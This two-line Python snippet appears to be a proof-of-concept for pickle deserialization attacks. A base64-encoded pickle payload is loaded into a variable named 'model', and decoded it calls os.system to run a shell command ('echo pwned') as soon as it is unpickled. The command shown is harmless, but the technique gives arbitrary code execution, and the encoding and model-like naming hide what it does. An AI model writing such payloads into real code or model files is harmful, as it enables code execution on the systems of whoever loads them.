import base64, pickle
model = pickle.loads(base64.b64decode('Y3Bvc2l4CnN5c3RlbQooUydlY2hvIHB3bmVkJwp0Ui4='))
